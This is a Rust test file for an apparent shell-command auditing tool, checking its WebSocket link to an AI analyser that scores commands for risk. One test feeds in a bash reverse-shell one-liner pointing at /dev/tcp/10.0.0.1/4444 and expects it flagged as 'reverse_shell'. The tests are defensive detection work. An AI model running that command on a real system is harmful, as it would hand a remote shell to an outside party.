//! The link and the analyser over loopback, with good servers and bad ones.
#![expect(clippy::result_large_err, reason = "the handshake's own type")]

use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::time::{Duration, Instant};

use audit_core::{Span, Stream};
use audit_detect::analyse::{Backend, Judgement, LocalBackend, Server, ServerSettings};
use audit_detect::link::{Analyze, Answer, Link, LinkSettings, Question, SUBPROTOCOL};
use tungstenite::handshake::server::{Request, Response};
use tungstenite::{Message, WebSocket};

/// An answer never takes longer than this in these tests, unless it is meant not to come.
const PATIENCE: Duration = Duration::from_secs(20);

fn link(url: String, timeout: f64) -> Link {
    let settings = settings(url, timeout);
    Link::open(&settings, "session-1".into(), "alice".into(), "web1".into()).expect("a link")
}

fn settings(url: String, timeout: f64) -> LinkSettings {
    LinkSettings {
        url,
        timeout,
        questions_per_minute: 1000,
        ca_file: None,
        cwd: Some("/srv".into()),
    }
}

fn question(text: &str) -> Question {
    let place = Span { stream: Stream::Input, start: 100, end: 100 + text.len() as u64 };
    Question {
        text: text.into(),
        score: 0.5,
        rules: vec!["x.y".into()],
        place: Some(place),
        command: 7,
    }
}

/// Asks and waits for the answer or for trouble.
fn asked(link: &mut Link, text: &str) -> Result<Answer, String> {
    if let Some(answer) = link.ask(question(text)) {
        return Ok(answer);
    }
    let end = Instant::now() + PATIENCE;
    while link.awaits() && Instant::now() < end {
        if let Some((about, answer)) = link.late(Duration::from_millis(50)) {
            assert_eq!(about, text);
            return Ok(answer);
        }
    }
    Err(link.troubles().join("; "))
}

/// A server that answers each question with what `reply` makes of it.
fn scripted(reply: impl Fn(&mut WebSocket<TcpStream>, Analyze) + Send + 'static) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let url = format!("ws://{}/ai", listener.local_addr().expect("an address"));
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(stream) = stream else { return };
            let accept = |_: &Request, mut response: Response| {
                let name = SUBPROTOCOL.parse().expect("a header");
                response.headers_mut().insert("Sec-WebSocket-Protocol", name);
                Ok(response)
            };
            let Ok(mut socket) = tungstenite::accept_hdr(stream, accept) else { continue };
            while let Ok(message) = socket.read() {
                if let Message::Text(text) = message {
                    reply(&mut socket, serde_json::from_str(&text).expect("a question"));
                }
            }
        }
    });
    url
}

fn answering(change: impl Fn(&mut serde_json::Value) + Send + 'static) -> String {
    scripted(move |socket, question| {
        let mut value = serde_json::json!({
            "t": "analysis", "v": 1, "req_id": question.req_id, "session": question.session,
            "score": 0.9, "label": "reverse_shell", "rationale_code": "r", "model": "m",
        });
        change(&mut value);
        let _ = socket.send(Message::text(value.to_string()));
    })
}

fn served(backend: impl Backend + 'static) -> (String, impl Fn()) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let url = format!("ws://{}/ai", listener.local_addr().expect("an address"));
    let server = Server::new(listener, Arc::new(backend), ServerSettings::default());
    let stop = server.stopper();
    std::thread::spawn(move || server.run());
    (url, stop)
}

#[test]
fn a_question_reaches_the_local_analyser_and_its_answer_comes_back() {
    let (url, stop) = served(LocalBackend::default());
    let mut link = link(url, 10.0);
    let answer = asked(&mut link, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").expect("an answer");
    assert!(answer.score >= 0.9);
    assert_eq!(answer.label, "reverse_shell");
    assert!(asked(&mut link, "git status").expect("an answer").score < 0.35);
    stop();
}

#[test]
fn the_same_question_is_not_asked_twice() {
    let (url, stop) = served(LocalBackend::default());
    let mut link = link(url, 10.0);
    let first = asked(&mut link, "git status").expect("an answer");
    assert_eq!(link.ask(question("git status")), Some(first));
    stop();
}

#[test]
fn asking_does_not_wait() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let url = format!("ws://{}/ai", listener.local_addr().expect("an address"));
    let mut link = link(url, 3600.0);
    // nobody ever accepts: were asking to wait, this test would not end
    assert_eq!(link.ask(question("id")), None);
    assert!(link.awaits());
}

#[test]
fn a_server_that_says_nothing_is_given_up_in_time() {
    let url = scripted(|_, _| {});
    let mut link = link(url, 0.2);
    let trouble = asked(&mut link, "id").expect_err("no answer");
    assert!(
        trouble.contains("in time")
            || trouble.contains("emporarily")
            || trouble.contains("timed out"),
        "{trouble}"
    );
}

#[test]
fn a_server_that_is_not_there_opens_the_circuit() {
    let url = {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        format!("ws://{}/ai", listener.local_addr().expect("an address"))
    };
    let mut link = link(url, 10.0);
    for index in 0..3 {
        asked(&mut link, &format!("id {index}")).expect_err("nobody there");
    }
    assert_eq!(link.ask(question("id again")), None);
    assert!(!link.awaits(), "nothing is asked while the circuit is open");
}

#[test]
fn a_score_out_of_range_is_refused() {
    for score in [
        serde_json::json!(7),
        serde_json::json!(-1),
        serde_json::json!("high"),
        serde_json::json!(null),
    ] {
        let shown = score.to_string();
        let mut link = link(answering(move |v| v["score"] = score.clone()), 10.0);
        let trouble = asked(&mut link, "id").expect_err(&shown);
        assert!(!trouble.is_empty());
    }
}

#[test]
fn answers_of_another_version_session_or_kind_are_refused() {
    for (field, value) in [
        ("v", serde_json::json!(2)),
        ("session", serde_json::json!("other")),
        ("t", serde_json::json!("block")),
        ("req_id", serde_json::json!(99)),
    ] {
        let mut link = link(answering(move |v| v[field] = value.clone()), 10.0);
        asked(&mut link, "id").expect_err(field);
    }
}

#[test]
fn garbage_is_refused() {
    for garbage in ["", "}{", "\u{0}\u{1b}[2J", "[1,2,3]"] {
        let url = scripted(move |socket, _| {
            let _ = socket.send(Message::text(garbage));
        });
        asked(&mut link(url, 10.0), "id").expect_err("refused");
    }
}

#[test]
fn a_reply_of_a_hundred_megabytes_is_refused_unread() {
    let url = scripted(|socket, _| {
        let _ = socket.send(Message::text("x".repeat(100 << 20)));
    });
    let trouble = asked(&mut link(url, 60.0), "id").expect_err("refused");
    assert!(
        trouble.to_lowercase().contains("too long")
            || trouble.to_lowercase().contains("space limit")
            || trouble.contains("exceed"),
        "{trouble}"
    );
}

#[test]
fn a_server_that_speaks_no_subprotocol_is_not_believed() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let url = format!("ws://{}/ai", listener.local_addr().expect("an address"));
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let _ = tungstenite::accept(stream).map(|mut s| s.read());
        }
    });
    asked(&mut link(url, 10.0), "id").expect_err("refused");
}

#[test]
fn the_link_comes_back_when_the_server_does() {
    struct Flaky(std::sync::atomic::AtomicUsize);
    impl Backend for Flaky {
        fn judge(&self, _: &Analyze) -> Result<Judgement, String> {
            match self.0.fetch_add(1, std::sync::atomic::Ordering::SeqCst) {
                0 => Err("not now".into()),
                _ => Ok(Judgement { score: 0.8, ..Judgement::default() }),
            }
        }
    }
    let (url, stop) = served(Flaky(0.into()));
    let mut link = link(url, 10.0);
    asked(&mut link, "first").expect_err("an error message is no answer");
    assert_eq!(asked(&mut link, "second").expect("an answer").score, 0.8);
    stop();
}

#[test]
fn a_server_refuses_other_paths_browsers_and_strangers() {
    let (url, stop) = served(LocalBackend::default());
    let address = url.trim_start_matches("ws://").trim_end_matches("/ai").to_owned();
    let status = |path: &str, extra: &str| {
        use std::io::{Read, Write};
        let mut stream = TcpStream::connect(&address).expect("connected");
        write!(stream, "GET {path} HTTP/1.1\r\nHost: {address}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{extra}\r\n").expect("sent");
        let mut head = [0; 12];
        stream.read_exact(&mut head).expect("a reply");
        String::from_utf8_lossy(&head[9..]).into_owned()
    };
    let protocol = format!("Sec-WebSocket-Protocol: {SUBPROTOCOL}\r\n");
    assert_eq!(status("/ai", &protocol), "101");
    assert_eq!(status("/other", &protocol), "404");
    assert_eq!(status("/ai", &format!("{protocol}Origin: https://evil.example\r\n")), "403");
    assert_eq!(status("/ai", ""), "400");
    stop();
}

#[test]
fn an_address_that_cannot_be_used_is_refused_at_once() {
    for (url, timeout) in [
        ("https://h/ai", 5.0),
        ("http://h/ai", 5.0),
        ("nonsense", 5.0),
        ("ws://h/ai", 0.0),
        ("ws://h/ai", f64::NAN),
    ] {
        let settings = settings(url.into(), timeout);
        assert!(
            Link::open(&settings, String::new(), String::new(), String::new()).is_err(),
            "{url} {timeout}"
        );
    }
}
